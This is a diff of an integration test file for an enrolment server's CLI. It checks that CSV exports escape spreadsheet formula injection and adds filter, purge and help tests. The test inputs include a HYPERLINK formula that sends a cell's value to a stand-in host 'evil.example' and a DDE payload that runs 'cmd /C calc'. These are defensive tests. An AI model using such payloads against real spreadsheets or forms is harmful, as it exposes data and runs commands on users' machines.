@@ -2,6 +2,7 @@ import { spawn } from 'node:child_process';
 import { once } from 'node:events';
 import { existsSync, readFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
+import Database from 'better-sqlite3';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { usage } from '../../src/server/command/arguments';
 import { enrolment, newKey, post, storedRows } from './support/requests';
@@ -12,13 +13,17 @@ import {
   startServer,
 } from './support/start-server';
 
+const formula = '=HYPERLINK("https://evil.example?"&A1,"Error; -1")';
+/** A formula in each text that can hold one, an address included. */
 const second = {
   ...enrolment,
-  name: '=HYPERLINK("https://evil.example")',
+  name: formula,
+  mobile: "@SUM(1+1)*cmd|' /C calc'!A0",
+  email: '=1+1@example.org',
   lang: 'English',
   per: '1',
   hours: 12,
-  message: 'Website enrolment: VIP English Course, "one-to-one"',
+  message: `Website enrolment: VIP;${formula}`,
 };
 
 let server: RunningServer;
@@ -60,9 +65,35 @@ describe('list, while the server runs', () => {
       '\uFEFFreference,receivedAt,name,mobile,email,nation,lang,per,hours,message',
     );
     expect(lines[1]).toMatch(/,Aisyah Rahman,'\+60 12-345 6789,aisyah@example\.org,Malaysia,/);
-    expect(lines[2]).toContain(`,"'=HYPERLINK(""https://evil.example"")",`);
-    expect(lines[2]).toMatch(/,12,"Website enrolment: VIP English Course, ""one-to-one"""$/);
+    const quoted = `'${formula.replace('; -', ";' -").replaceAll('"', '""')}`;
+    expect(lines[2]?.startsWith(`${references[1]},`)).toBe(true);
+    expect(lines[2]?.split('Z,')[1]).toBe(
+      `"${quoted}",'@SUM(1+1)*cmd|' /C calc'!A0,'=1+1@example.org,Malaysia,English,1,12,` +
+        `"Website enrolment: VIP;${quoted}"`,
+    );
     expect(lines.slice(3)).toEqual(['']);
+  });
+
+  test.each(['nation', 'lang', 'per', 'hours'])('no formula gets into %s', async (field) => {
+    const answer = await post(server.url, { ...enrolment, [field]: '=1+1' });
+    expect(answer).toMatchObject({ status: 400, body: { fields: [{ field }] } });
+  });
+
+  test('--since and --language', async () => {
+    const [first = '', last = ''] = storedRows(server.databaseFile).map((row) =>
+      String(row.received_at),
+    );
+    const listed = async (...words: readonly string[]) => {
+      const result = await runEnrolments(server.databaseFile, 'list', '--format=json', ...words);
+      return JSON.parse(result.stdout).map(({ reference }: { reference: string }) => reference);
+    };
+    expect(
+      await Promise.all([
+        listed('--since', last),
+        listed('--since', first, '--language', 'Mandarin'),
+        listed('--since', '2999-01-01'),
+      ]),
+    ).toEqual([[references[1]], [references[0]], []]);
   });
 
   test('as a table by default', async () => {
@@ -113,6 +144,33 @@ describe('delete', () => {
     const result = await runEnrolments(server.databaseFile, 'delete', reference);
     expect(result).toEqual({ code: 1, stdout: '', stderr: sentence });
   });
+});
+
+describe('purge', () => {
+  test('forgets what is older, and says how many', async () => {
+    const old = (await post(server.url, { ...enrolment, name: 'Zephyrine' })).body.reference;
+    const database = new Database(server.databaseFile);
+    database
+      .prepare('UPDATE enrolments SET received_at = ? WHERE reference = ?')
+      .run(new Date(Date.now() - 30 * 24 * 60 * 60 * 1000).toISOString(), old);
+    database.close();
+
+    const purge = () => runEnrolments(server.databaseFile, 'purge', '--older-than', '29');
+    expect(await purge()).toEqual({
+      code: 0,
+      stdout: expect.stringMatching(
+        /^Deleted 1 enrolment that was received before \d{4}-\d\d-\d\dT[\d:.]+Z\.\n$/,
+      ),
+      stderr: '',
+    });
+    expect(storedRows(server.databaseFile).map(({ reference }) => reference)).toEqual(references);
+    expect((await purge()).stdout).toMatch(/^Deleted 0 enrolments that were received before /);
+  });
+});
+
+test('--help: the usage', async () => {
+  const result = await runEnrolments(server.databaseFile, '--help');
+  expect(result).toEqual({ code: 0, stdout: usage, stderr: '' });
 });
 
 test('wrong usage: the usage on stderr and exit code 2', async () => {
